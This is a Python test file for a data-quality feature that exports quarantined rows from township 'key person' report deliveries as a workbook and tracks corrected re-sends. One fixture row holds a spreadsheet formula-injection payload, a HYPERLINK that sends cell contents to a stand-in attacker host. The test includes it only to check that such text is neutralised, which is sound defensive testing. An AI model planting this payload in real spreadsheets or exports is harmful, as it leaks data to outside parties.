"""Quarantine sent back: a delivery's quarantined rows as a workbook in the file's own headers with 问题原因 (formula
text neutralised), and a corrected re-send that turns the entries 已更正 — by record key, and by content for a row
whose key was missing — without doubling any record; what was not corrected stays open, per 乡镇."""
from __future__ import annotations

import csv
import datetime as dt
import io

import openpyxl
from support.county import build_sample

from core.config import Settings
from core.spec import DATASETS
from dashboard.quarantine import REASON_HEADER, workbook
from etl.pipeline import run
from warehouse import db, metrics
from warehouse.metrics import Scope

HR_GRID = "510799002200001"  # a grid of 宏仁乡
# the file's own headers: required marks and notes, another order than the contract's
HEADERS = {"grid_code": "所属网格*", "report_id": "报送编号*", "category": "人员类别（必填）", "person_name": "姓名",
           "reported_at": "报送时间*", "police_station": "接收派出所", "updated_at": "更新时间"}


def _write(path, rows: list[dict]) -> None:
    with open(path, "w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(list(HEADERS.values()))
        for r in rows:
            w.writerow([r.get(k, "") for k in HEADERS])


def _row(rid: str, category: str = "流动人口", name: str = "孙八", day: int = 2) -> dict:
    return {"grid_code": HR_GRID, "report_id": rid, "category": category, "person_name": name,
            "reported_at": f"2024-04-0{day} 09:00:00", "police_station": "宏仁派出所",
            "updated_at": f"2024-04-0{day} 09:00:00"}


def _load(root, drop, day: int = 10):
    res = run(drop, Settings().resolve(root), warehouse_dir=root / "wh", lake_dir=root / "lake",
              load_time=dt.datetime(2024, 4, day), log=lambda m: None)
    assert res.status == "ok", res.error
    return res


def test_quarantine_workbook_and_corrected_resend(tmp_path):
    build_sample(tmp_path)
    d1 = tmp_path / "d1"
    d1.mkdir()
    _write(d1 / "key_person_reports_20240402_宏仁乡.csv", [
        _row("QR-1"),  # lands
        _row("QR-2", category=""),  # required 人员类别 missing: quarantined, key QR-2
        _row("", name="周九"),  # no 报送编号: quarantined, no key
        _row("QR-4", category="", name='=HYPERLINK("http://evil.example/?d="&A2,"点击")'),  # formula text
    ])
    _load(tmp_path, d1)
    con = db.open_published(tmp_path / "wh")
    files = metrics.query(con, "quality/quarantine_files", Scope(personal="full"), township=None)
    f = files[files["source_file"] == "key_person_reports_20240402_宏仁乡.csv"].iloc[0]
    assert (f["rows"], f["open"], f["corrected"], f["townships"]) == (3, 3, 0, "宏仁乡")
    rows = metrics.query(con, "quality/quarantine_file_rows", Scope(personal="full"), delivery=int(f["delivery"]))
    con.close()
    assert list(rows["source_row"]) == [3, 4, 5] and set(rows["status"]) == {"未解决"}

    wb = openpyxl.load_workbook(io.BytesIO(workbook(rows, f["headers"], "key_person_reports")))
    ws = wb.active
    table = [[c.value for c in r] for r in ws.iter_rows()]
    assert table[0] == list(HEADERS.values()) + [REASON_HEADER]  # the file's own headers, in its order
    assert table[1][:4] == [HR_GRID, "QR-2", None, "孙八"] and "人员类别" in table[1][-1]
    assert table[2][1] is None and table[2][3] == "周九" and "报送编号" in table[2][-1]
    assert table[3][3].startswith("'=HYPERLINK(")  # shown as text, never evaluated
    assert all(c.data_type != "f" for r in ws.iter_rows() for c in r)

    # the 乡镇 corrects the two rows (the keyless one now has its 报送编号) and sends them again
    d2 = tmp_path / "d2"
    d2.mkdir()
    _write(d2 / "key_person_reports_20240405_宏仁乡更正.csv",
           [_row("QR-2"), _row("QR-3", name="周九")])
    _load(tmp_path, d2, day=12)
    con = db.open_published(tmp_path / "wh")
    q = con.execute("SELECT source_row, status, corrected_file, matched_by FROM dq_quarantine "
                    "WHERE source_file = 'key_person_reports_20240402_宏仁乡.csv' ORDER BY source_row").fetchall()
    assert q == [(3, "已更正", "key_person_reports_20240405_宏仁乡更正.csv", "key"),
                 (4, "已更正", "key_person_reports_20240405_宏仁乡更正.csv", "content"),
                 (5, "未解决", None, None)]
    towns = metrics.query(con, "quality/quarantine_townships", Scope(personal="full"))
    hr = towns[towns["township_name"] == "宏仁乡"].iloc[0]
    assert (hr["open"], hr["corrected"]) == (1, 2)
    n = dict(con.execute("SELECT report_id, count(*) FROM fact_kp_report WHERE report_id LIKE 'QR-%' "
                         "GROUP BY ALL").fetchall())
    assert n == {"QR-1": 1, "QR-2": 1, "QR-3": 1}  # nothing doubled
    # the open list of the download: only what is still open
    rows = metrics.query(con, "quality/quarantine_file_rows", Scope(personal="masked"), delivery=int(f["delivery"]))
    con.close()
    assert list(rows.loc[rows["status"] == "未解决", "source_row"]) == [5]
    assert rows.loc[rows["status"] == "已更正", "corrected_file"].tolist() == [
        "key_person_reports_20240405_宏仁乡更正.csv"] * 2


def test_a_later_delivery_without_the_row_leaves_it_open(tmp_path):
    """Another file of the same 乡镇 that does not carry the row (another key, other content) resolves nothing."""
    build_sample(tmp_path)
    d1 = tmp_path / "d1"
    d1.mkdir()
    _write(d1 / "key_person_reports_20240402.csv", [_row("QR-9", category=""), _row("", name="吴十")])
    _load(tmp_path, d1)
    d2 = tmp_path / "d2"
    d2.mkdir()
    _write(d2 / "key_person_reports_20240403.csv", [_row("QR-10", name="郑十一", day=3)])
    _load(tmp_path, d2, day=12)
    con = db.open_published(tmp_path / "wh")
    assert con.execute("SELECT count(*) FILTER (status = '未解决'), count(*) FROM dq_quarantine").fetchone() == (2, 2)
    con.close()


def test_another_part_of_the_same_export_corrects_nothing(tmp_path):
    """The row's key (and its content) landing from another file of the same run is no correction: the entry was
    not yet seen by anyone."""
    build_sample(tmp_path)
    d1 = tmp_path / "d1"
    d1.mkdir()
    _write(d1 / "key_person_reports_20240402_a.csv", [_row("QR-20", category=""), _row("", name="王二")])
    _write(d1 / "key_person_reports_20240402_b.csv", [_row("QR-20"), _row("QR-21", name="王二")])
    _load(tmp_path, d1)
    con = db.open_published(tmp_path / "wh")
    assert con.execute("SELECT count(*) FILTER (status = '未解决'), count(*) FROM dq_quarantine").fetchone() == (2, 2)
    con.close()
    assert DATASETS["key_person_reports"].key == ("report_id",)
